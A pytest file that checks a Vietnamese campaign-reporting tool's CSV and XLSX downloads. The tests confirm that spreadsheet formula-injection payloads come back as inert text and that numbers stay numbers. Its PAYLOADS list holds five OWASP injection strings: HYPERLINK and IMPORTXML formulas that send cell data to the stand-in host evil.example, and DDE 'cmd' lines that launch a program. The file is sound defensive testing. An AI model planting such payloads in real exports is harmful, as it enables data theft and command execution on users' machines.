"""CSV the product writes opens in a spreadsheet app as data: the five OWASP payloads a unit
typed come back as text, never a formula (LibreOffice headless opens the download), and
numbers stay numbers."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from sync.csv_safe import safe_cell, writer
from tests.web_helpers import make_organiser, sign_in

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    '=IMPORTXML("http://evil.example/x","//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
TEMPLATE = """\
id: ds
title: Danh sách
tab: Danh sách
columns:
  - {key: ho_ten, header: Họ và tên, type: text, required: true}
  - {key: ghi_chu, header: Ghi chú, type: text}
  - {key: diem, header: Điểm, type: number}
"""
CAMPAIGN = """\
campaign: {id: csv-test, title: Đợt thử CSV, organizer: LĐLĐ tỉnh, timezone: Asia/Ho_Chi_Minh}
backend: {kind: local, path: ./workbooks}
units:
  - {id: DV1, name: Đơn vị Một, quotas: {ds: 9}}
forms:
  - {id: ds, template: ./ds.yaml, due: 2099-04-20T17:00}
"""
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.fixture
def campaign_file(tmp_path: Path) -> Path:
    """Override: one unit whose rows carry the payloads, in text cells, and a negative number."""
    from sync.campaign import load_campaign
    from sync.stores import open_store

    folder = tmp_path / "campaign"
    folder.mkdir()
    (folder / "ds.yaml").write_text(TEMPLATE, encoding="utf-8")
    path = folder / "campaign.yaml"
    path.write_text(CAMPAIGN, encoding="utf-8")
    campaign = load_campaign(path)
    open_store(campaign).provision(campaign.unit("DV1"))
    book = folder / "workbooks" / "DV1.xlsx"
    wb = openpyxl.load_workbook(book)
    ws = wb["Danh sách"]
    for i, payload in enumerate(PAYLOADS, start=2):
        ws.cell(row=i, column=1, value=payload).data_type = "s"  # typed text, never a formula
        ws.cell(row=i, column=2, value=payload).data_type = "s"
        ws.cell(row=i, column=3, value=-2.5 if i == 2 else i)
    wb.save(book)
    return path


def test_safe_cell_neutralises_triggers_and_keeps_numbers() -> None:
    assert [safe_cell(p)[0] for p in PAYLOADS] == ["'"] * 5
    assert safe_cell("\tx") == "'\tx" and safe_cell("\rx") == "'\rx"
    assert [safe_cell(v) for v in (-2, -2.5, 0, None, True)] == [-2, -2.5, 0, "", True]
    assert [safe_cell(v) for v in ("-2", "+84912345678", "1.5e3", "Lò Thị Mai")] == [
        "-2",
        "+84912345678",
        "1.5e3",
        "Lò Thị Mai",
    ]
    out = io.StringIO()
    writer(out).writerow(["=1+1", -3, "a"])
    assert out.getvalue() == "'=1+1,-3,a\r\n"


def _download(app: Any) -> bytes:
    svc = app.extensions["thidua"]
    make_organiser(app)
    client = app.test_client()
    sign_in(client)
    svc.handler.validate("DV1", "t-1")
    resp = client.get("/dashboard/download/ds.csv")
    assert resp.status_code == 200
    return bytes(resp.data)


def test_dashboard_csv_payloads_are_text_and_numbers_stay_numbers(app: Any) -> None:
    data = _download(app)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header = rows[0]
    name, note, score = header.index("Họ và tên"), header.index("Ghi chú"), header.index("Điểm")
    body = rows[1:]
    assert [r[name] for r in body] == ["'" + p for p in PAYLOADS]
    assert [r[note] for r in body] == ["'" + p for p in PAYLOADS]
    assert [float(r[score]) for r in body] == [-2.5, 3, 4, 5, 6]  # written as numbers


def test_libreoffice_opens_the_download_with_no_formula_cell(app: Any, tmp_path: Path) -> None:
    if SOFFICE is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice (soffice) is required in CI", pytrace=False)
        pytest.skip("LibreOffice is not installed")
    source = tmp_path / "ds.csv"
    source.write_bytes(_download(app))
    profile = tmp_path / "lo-profile"
    done = subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            # CSV import: comma, double quote, UTF-8 (76), from line 1; formulas are
            # evaluated (the dangerous setting) so a formula would show as one
            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    wb = openpyxl.load_workbook(tmp_path / "ds.xlsx")
    ws = wb.active
    assert ws is not None
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    header = [c.value for c in ws[1]]
    name, score = header.index("Họ và tên") + 1, header.index("Điểm") + 1
    texts = [str(ws.cell(row=r, column=name).value) for r in range(2, 7)]
    assert all(t.lstrip("'") == p for t, p in zip(texts, PAYLOADS, strict=True))
    assert [ws.cell(row=r, column=score).value for r in range(2, 7)] == [-2.5, 3, 4, 5, 6]


def test_validate_csv_output_is_neutralised(tmp_path: Path, campaign_file: Path) -> None:
    from click.testing import CliRunner

    from sync.cli import cli

    book = campaign_file.parent / "workbooks" / "DV1.xlsx"
    wb = openpyxl.load_workbook(book)
    wb["Danh sách"].cell(row=3, column=3, value="=2+3").data_type = "s"  # not a number
    wb.save(book)
    result = CliRunner().invoke(
        cli, ["validate", str(campaign_file), "--no-feedback", "--format", "csv"]
    )
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows and all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    values = [r[rows[0].index("value")] for r in rows[1:] if "value" in rows[0]]
    assert "'=2+3" in values


def test_consolidated_xlsx_keeps_the_payloads_as_text(app: Any) -> None:
    svc = app.extensions["thidua"]
    make_organiser(app)
    client = app.test_client()
    sign_in(client)
    svc.handler.validate("DV1", "t-1")
    resp = client.get("/dashboard/download/tong-hop.xlsx")
    assert resp.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(resp.data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(PAYLOADS) <= texts
